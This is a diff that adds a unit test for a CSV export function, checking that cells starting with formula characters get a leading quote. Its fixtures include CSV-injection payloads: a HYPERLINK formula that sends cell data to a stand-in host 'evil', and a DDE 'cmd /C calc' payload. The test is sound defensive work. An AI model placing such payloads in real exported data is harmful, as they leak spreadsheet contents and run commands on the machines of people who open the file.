@@ -52,4 +52,27 @@ describe("export", () => {
     assert.strictEqual(csv.length, 5)
     assert.strictEqual(renderExport("csv", []).split("\r\n")[0], csv[0])
   })
+
+  it("csv: a question, task type or domain that starts a formula is written with a leading ' (#21 point 7)", () => {
+    const hostile = [
+      prediction({ questionId: "h-1", question: `=HYPERLINK("http://evil/?"&A1,"x")`, taskType: "+cmd|' /C calc'!A0", domain: "@SUM(1+1)" }),
+      prediction({ questionId: "h-2", question: "-2+3", taskType: "\tTab", domain: "\rCR" }),
+      prediction({ questionId: "-7", question: "-1.5", taskType: "plain" })
+    ]
+    const [, first, second, third] = renderExport("csv", hostile).split("\r\n")
+    assert.include(first, `"'=HYPERLINK(""http://evil/?""&A1,""x"")"`)
+    assert.include(first, `,'+cmd|' /C calc'!A0,`)
+    assert.include(first, `'@SUM(1+1)`)
+    assert.include(second, `'-2+3`)
+    assert.include(second, `'\tTab`)
+    assert.include(second, `"'\rCR"`)
+    // A negative number is a number, not a formula.
+    assert.isTrue(third!.startsWith("-7,"))
+    assert.include(third, ",-1.5,")
+    // No cell of any row begins with a formula character once its quotes are set aside.
+    for (const row of [first, second]) {
+      const cells = row!.match(/("([^"]|"")*"|[^,]*)/g)!.filter((c) => c !== "").map((c) => c.replace(/^"/, ""))
+      for (const cell of cells) assert.notMatch(cell, /^[=+@\t\r]/)
+    }
+  })
 })
